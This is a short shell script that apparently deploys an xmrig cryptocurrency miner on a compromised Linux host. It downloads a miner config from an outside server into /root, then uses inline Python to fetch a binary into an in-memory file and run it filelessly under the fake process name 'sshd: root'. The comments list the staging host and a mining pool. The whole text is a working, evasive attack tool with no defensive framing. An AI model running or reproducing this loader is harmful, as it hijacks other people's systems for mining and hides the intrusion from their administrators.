# fileless with fexecve in a child, no arguments, config in home
#http 203.0.113.55:8006
#pool 198.51.100.64:80:hold
curl -so /root/.xmrig.json http://203.0.113.55:8006/cfghold.json
timeout 24 python3 -c '
import os,urllib.request
f=os.memfd_create("a"); d=urllib.request.urlopen("http://203.0.113.55:8006/w").read()
while d: d=d[os.write(f,d):]
if os.fork()==0: os.execve(f,["sshd: root"],{"HOME":"/root","HWLOC_SYNTHETIC":"core:2 pu:1"})
os.wait()' >/dev/null
